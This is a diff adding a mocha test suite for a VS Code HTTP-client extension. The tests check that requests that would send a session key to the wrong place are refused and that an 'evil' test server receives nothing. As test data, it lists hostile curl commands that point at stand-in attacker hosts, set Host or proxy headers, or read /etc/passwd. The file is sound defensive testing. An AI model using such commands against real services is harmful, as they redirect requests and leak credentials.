@@ -1,0 +1,149 @@
+import { suite, suiteSetup, suiteTeardown, setup, teardown, test } from 'mocha';
+import * as assert from 'node:assert/strict';
+import { randomBytes, randomUUID } from 'node:crypto';
+import * as vscode from 'vscode';
+import type { TestApi } from '../../src/extension';
+import { parseDocument } from '../../src/http/document/parse';
+import { lookalikeRows, loopbackRows, withAddresses } from '../hostile/rows';
+import { json } from '../support/scriptedResponses';
+import { startHostileServer, type HostileServer } from '../support/hostileServer';
+import { extensionUnderTest } from './support/extension';
+import { recordMessages, type MessageRecorder } from './support/messages';
+import { openScratchpad } from './support/scratchpad';
+
+const remove = 'Remove it; the credential of the session is added when the request is sent.';
+
+/** What is said where a request of the hostile tables is not sent, by the reason that the tables give. */
+const messages: Readonly<Record<string, RegExp>> = {
+	ambiguousIndent:
+		/^Not sent\. Line 2: Some tools read this indented line as a header, others as the rest of the line/u,
+	authorizationShorthand: /^Not sent\. Line 2: Remove this Authorization header; the credential of the session is/u,
+	controlCharacter: /^Not sent\. Line 1: A request cannot contain a control character\.$/u,
+	cyclicVariable: /^Not sent\. Line 2: The variable a → a refers to itself\.$/u,
+	foreignOrigin:
+		/^Nothing was sent: the request goes to http:\/\/127\.0\.0\.1:\d+, which is no configured account\. A key is only ever sent to its own account\.$/u,
+	hostHeader:
+		/^Not sent\. Line 2: Remove the Host header: a request goes to the account it names, and nowhere else\.$/u,
+	indirectPath: /^Not sent\. Line 1: This path contains \. or \.\. or a backslash, so a different path would be sent/u,
+	invalidHeader: /^Not sent\. Line 2: A header is written 'Name: value'\. An empty line ends the headers\.$/u,
+	invalidHeaderName: /^Not sent\. Line \d: .+ is not a header name\.$/u,
+	invalidHeaderValue: /^Not sent\. Line \d: The value of .+ contains characters that are not allowed in a header\.$/u,
+	invalidTarget:
+		/^Not sent\. Line 1: Invalid URL or path: .+\. Write a path such as crm\/lead\/list, or a full URL\.$/u,
+	invalidVariable: /^Not sent\. Line 2: process\.exit\(\) is not a variable name\. Expressions are never evaluated\.$/u,
+	misleadingHeader: /^Not sent: by the header X-Forwarded-Host a server or proxy may take the request for another one/u,
+	missingMetadataValue: /^Not sent\. Line 1: @account needs a value\.$/u,
+	missingScheme: /^Not sent\. Line 1: .+ looks like a host\. Write https:\/\/ before it, or a path of the API\.$/u,
+	missingSeparator: /^Not sent\. Line \d+: This looks like another request\. Write ### on a line before it\.$/u,
+	missingTarget:
+		/^Not sent\. Line 1: The request has no target\. Write one after the method, such as crm\/lead\/list\.$/u,
+	noAddress:
+		/^Not sent\. Line 1: Invalid URL or path: http:\/\/127\.0\.0\.1:99999\/\. Write a path such as crm\/lead\/list, or a full URL\.$/u,
+	ownApiKey: new RegExp(`^Not sent: the request has its own api_key\\. ${remove}$`, 'u'),
+	ownAuthorization: new RegExp(`^Not sent: the request has its own Authorization\\. ${remove}$`, 'u'),
+	ownUserinfo: new RegExp(`^Not sent: there is a user name or password in the address\\. ${remove}$`, 'u'),
+	repeatedMetadata: /^Not sent\. Line 2: @account is written twice; a request can have only one\.$/u,
+	unclosedVariable: /^Not sent\. Line 2: The variable is not closed: \}\} is missing\.$/u,
+	unknownAccount: /^Nothing was sent: there is no key for the account '.+'\.$/u,
+	unknownKey: /^Nothing was sent: there is no key called 'Nobody' for this account\.$/u,
+	unknownMethod: /^Not sent\. Line 1: There is no method EVIL\.$/u,
+	unknownRequest:
+		/^Not sent\. Line 2: There is no request called x\. A request is named by a line '# @name x' above it\.$/u,
+	unknownVariable: /^Not sent\. Line 2: There is no variable b\. Define it with a line '@b = value'\.$/u,
+	unsetVariable: /^Not sent\. Line 2: \$processEnv HOST is not set\.$/u,
+	unsupportedMethod: /^Not sent\. Line 1: The method CONNECT is not supported, so the request is not sent\.$/u,
+	unsupportedScheme: /^Not sent\. Line 1: file:\/\/\/etc\/passwd is not supported: use https\.$/u,
+	variableInMetadata: /^Not sent\. Line 1: @\{\{a\}\} cannot hold a variable\.$/u,
+	whitespaceInPath: /^Not sent\. Line 1: A path cannot contain spaces\. Write %20 instead\.$/u,
+};
+
+/**
+ * The first row of each reason. VS Code makes a line of what follows a carriage return, so rows with one are other texts here; a curl command is
+ * translated before, and has rows of its own.
+ */
+const rows = new Map(
+	[
+		...lookalikeRows.map(row => ({ ...row, isHere: false })),
+		...loopbackRows.map(row => ({ ...row, isHere: true })).toReversed(),
+	]
+		.filter(({ text, expected }) => !expected.includes(' ') && !text.includes('\r') && expected !== 'curlCommand')
+		.map(row => [row.expected, row]),
+);
+
+/** Options of curl that would have a request delivered elsewhere, and commands that go elsewhere. */
+const curlCommands = [
+	'curl $EVIL/',
+	'curl $ACCOUNT/x $EVIL/',
+	'curl -x $EVIL $ACCOUNT/x',
+	'curl --proxy $EVIL $ACCOUNT/x',
+	'curl --connect-to ::$EVILHOST $ACCOUNT/x',
+	'curl --resolve $HOST:127.0.0.2 $ACCOUNT/x',
+	'curl -u ann:x $ACCOUNT/x',
+	"curl -H 'Host: evil.example' $ACCOUNT/x",
+	"curl -H 'X-Forwarded-Host: evil.example' $ACCOUNT/x",
+	"curl -H 'Authorization: Bearer x' $ACCOUNT/x",
+	'curl $ACCOUNT/x?api_key=1',
+	'curl -K /etc/passwd $ACCOUNT/x',
+	'curl --url $EVIL/',
+	'curl --path-as-is $ACCOUNT/api/../x',
+];
+
+suite('messages for a request that would go to the wrong place', () => {
+	const key = randomBytes(20).toString('hex');
+	let api: TestApi;
+	let account: HostileServer;
+	let evil: HostileServer;
+	let recorder: MessageRecorder;
+
+	suiteSetup(async () => {
+		api = await extensionUnderTest();
+		account = await startHostileServer([json({ response: {} })]);
+		evil = await startHostileServer([json({ response: {} })]);
+	});
+	suiteTeardown(async () => {
+		await vscode.commands.executeCommand('workbench.action.closeAllEditors');
+		await Promise.all([account.close(), evil.close()]);
+	});
+	setup(() => {
+		recorder = recordMessages();
+	});
+	teardown(() => {
+		recorder.dispose();
+	});
+
+	/** Sends the first request of the text as the only session there is, and gives what is said. */
+	async function send(text: string, origin: string): Promise<string> {
+		const session = {
+			id: randomUUID(),
+			account: { name: 'mine', origin },
+			grant: 'apiKey',
+			label: 'Main',
+			tail: '',
+		} as const;
+		await api.sessions.add(session, { kind: 'apiKey', apiKey: api.createSecret(key) });
+		const content = withAddresses(text, { account: account.origin, evil: evil.origin });
+		const document = await openScratchpad(content);
+		const offset = parseDocument(document.getText()).blocks[0]?.requestLine.start ?? 0;
+		await vscode.commands.executeCommand('flowlu.send', document.uri.toString(), offset);
+		await api.sessions.remove(session.id);
+		return recorder.messages.join('\n');
+	}
+
+	test('there are for each reason', () => {
+		assert.deepEqual(Object.keys(messages).sort(), [...rows.keys()].sort());
+	});
+
+	for (const [reason, { text, isHere }] of rows) {
+		test(reason, async () => {
+			assert.match(await send(text, isHere ? account.origin : 'https://acme.example'), messages[reason] ?? /^$/u);
+			assert.deepEqual([account.received.length, evil.connections()], [0, 0]);
+		});
+	}
+
+	for (const command of curlCommands) {
+		test(command, async () => {
+			assert.match(await send(`${command}\n`, account.origin), /^(?:Not sent|Nothing was sent)/u);
+			assert.deepEqual([account.received.length, evil.connections()], [0, 0]);
+		});
+	}
+});
